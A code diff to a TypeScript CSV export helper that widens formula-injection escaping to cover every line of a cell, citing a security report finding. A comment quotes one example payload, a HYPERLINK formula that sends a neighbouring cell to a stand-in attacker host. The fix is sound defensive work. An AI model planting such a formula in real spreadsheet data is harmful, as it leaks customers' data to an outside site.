@@ -11,12 +11,21 @@ export interface CsvColumn<T> {
 export const UTF8_BOM = '\uFEFF';
 
 /**
+ * A text cell a spreadsheet could run as a formula: one of whose lines starts with `=`, `+`, `-`,
+ * `@`, a tab or a carriage return. Every line counts, not only the first: papaparse's own
+ * `escapeFormulae: true` tests `/^[=+\-@\t\r].*$/`, whose `.` stops at a line break, so a value
+ * like `=HYPERLINK("https://evil.example/?"&C2,\n"Eve")` (a customer's name, address or PO
+ * number) passed unescaped (security report 2026-11-26, finding 5).
+ */
+export const FORMULA_CELL = /(?:^|[\n\r])[=+\-@\t\r]/;
+
+/**
  * A CSV file's text: the headings, then one line per row, with a BOM in front. Papaparse does the
  * quoting (a cell with a comma, a quote or a new line is quoted, quotes doubled) and neutralises
- * formulas: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
- * leading `'`, so a product named `=HYPERLINK(...)` is read as text, never run by a spreadsheet.
- * Numbers stay numbers (a negative amount is not a formula). It is loaded on first use, so the
- * pages that only show a list never carry it.
+ * formulas: a text cell any of whose lines starts with `=`, `+`, `-`, `@`, a tab or a carriage
+ * return (`FORMULA_CELL`) gets a leading `'`, so a product named `=HYPERLINK(...)` is read as
+ * text, never run by a spreadsheet. Numbers stay numbers (a negative amount is not a formula).
+ * It is loaded on first use, so the pages that only show a list never carry it.
  */
 export async function toCsv<T>(
   columns: readonly CsvColumn<T>[],
@@ -28,7 +37,7 @@ export async function toCsv<T>(
       fields: columns.map((column) => column.header),
       data: rows.map((row) => columns.map((column) => column.value(row) ?? '')),
     },
-    { escapeFormulae: true, newline: '\r\n' },
+    { escapeFormulae: FORMULA_CELL, newline: '\r\n' },
   );
   // Papaparse ends the headings of an empty list with a line break, and a last row without.
   return `${UTF8_BOM}${text}${text.endsWith('\r\n') ? '' : '\r\n'}`;
